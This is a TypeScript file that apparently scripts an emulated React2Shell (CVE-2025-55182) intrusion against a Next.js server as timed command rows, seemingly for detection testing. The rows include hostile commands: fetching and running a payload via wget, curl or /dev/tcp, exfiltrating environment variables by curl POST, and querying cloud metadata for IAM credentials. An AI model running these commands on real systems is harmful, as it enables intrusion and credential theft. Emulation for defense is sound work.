import { type Campaign, run } from './campaign.ts'

export const REACT2SHELL: Campaign = {
  id: 'react2shell',
  title: 'React2Shell (CVE-2025-55182): next-server to a backdoor and stolen environment',
  source: 'Unit 42, 2025-12',
  victim: 'next',
  evasions: ['no-downloader'],
  unseen: [],
  rows: ({ server, drop, evades }) => {
    const web = [[server, 80]] as const
    return [
      ['0:00', 1, run('server', `/bin/sh -c 'id; uname -a'`, { as: 'probe' })],
      ['0:00', 1, run('probe', '/usr/bin/id')],
      [
        '0:20',
        2,
        evades('no-downloader')
          ? run('server', `/bin/bash -c 'exec 3<>/dev/tcp/${server}/80; cat <&3 >/tmp/vim'`, { as: 'sh', to: web })
          : run(
              'server',
              `/bin/sh -c '(wget -qO- http://${server}/vim || curl -s http://${server}/vim) > /tmp/vim; chmod +x /tmp/vim; /tmp/vim'`,
              { as: 'sh' }
            )
      ],
      ...(evades('no-downloader')
        ? []
        : ([['0:21', 2, run('sh', `/usr/bin/wget -qO- http://${server}/vim`, { to: web })]] as const)),
      ['0:24', 2, run('sh', '/bin/chmod +x /tmp/vim')],
      ['0:25', 3, run('sh', '/tmp/vim', { as: 'backdoor', to: [[server, 12349]] })],
      ['0:26', 3, run('sh', '/bin/rm -f /tmp/vim')],
      ['1:10', 4, run('backdoor', "/bin/sh -c 'env | base64 -w0'", { as: 'steal' })],
      ['1:11', 4, run('steal', '/usr/bin/env')],
      ['1:12', 4, run('backdoor', `/usr/bin/curl -s -X POST -d @/tmp/e http://${drop}/c`, { to: [[drop, 80]] })],
      [
        '1:40',
        5,
        run('backdoor', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', {
          to: [['169.254.169.254', 80]]
        })
      ]
    ]
  }
}
